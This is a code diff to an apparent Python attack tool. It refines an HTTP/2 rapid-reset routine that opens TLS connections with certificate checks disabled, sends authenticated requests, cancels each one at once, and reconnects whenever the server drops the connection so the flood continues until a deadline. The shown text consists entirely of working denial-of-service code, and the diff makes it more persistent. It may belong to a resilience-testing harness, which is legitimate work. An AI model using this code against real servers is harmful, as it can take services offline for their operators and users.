@@ -201,22 +201,25 @@ async def handshakes(attacker: Attacker) -> None:
 
 
 async def resets(attacker: Attacker) -> None:
-    """HTTP/2 requests that are taken back at once."""
+    """HTTP/2 requests that are taken back at once, over one connection after the other."""
     parts = urlsplit(attacker.url)
     context = _unchecked()
     context.set_alpn_protocols(["h2"])
     while time.monotonic() < attacker.until:
         reader, writer = await asyncio.open_connection(parts.hostname, parts.port, ssl=context)
-        reading = asyncio.create_task(reader.read())
+        attacker.note("connected")
+        reading = asyncio.create_task(reader.read())  # it ends when the server has had enough
         try:
-            await reset_all(attacker, writer)
+            await reset_all(attacker, writer, reading)
         except OSError as error:
             attacker.note(type(error).__name__)
         reading.cancel()
         writer.close()
 
 
-async def reset_all(attacker: Attacker, writer: asyncio.StreamWriter) -> None:
+async def reset_all(
+    attacker: Attacker, writer: asyncio.StreamWriter, reading: asyncio.Task[bytes]
+) -> None:
     http = h2.connection.H2Connection()
     http.initiate_connection()
     token = attacker.bearer["authorization"]
@@ -227,7 +230,7 @@ async def reset_all(attacker: Attacker, writer: asyncio.StreamWriter) -> None:
         writer.write(http.data_to_send())
         await writer.drain()
         attacker.note("reset")
-        if time.monotonic() > attacker.until:
+        if reading.done() or time.monotonic() > attacker.until:
             return
 
 
